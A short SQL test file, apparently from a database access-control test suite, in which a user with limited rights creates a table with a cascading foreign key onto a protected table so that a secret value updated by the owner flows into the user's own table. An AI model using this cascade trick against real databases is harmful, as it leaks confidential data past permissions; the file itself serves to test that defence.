-- Lets a key's cascade carry what a licensed user writes to an own table.
-- wants: read
-- attack:
CREATE TABLE loot (s text REFERENCES vlt_account (name) ON UPDATE CASCADE);
INSERT INTO loot VALUES ('account 1');
-- as: owner
UPDATE vlt_account SET name = 'top-secret-4711 name' WHERE id = 1;
-- session: first
SELECT * FROM loot;
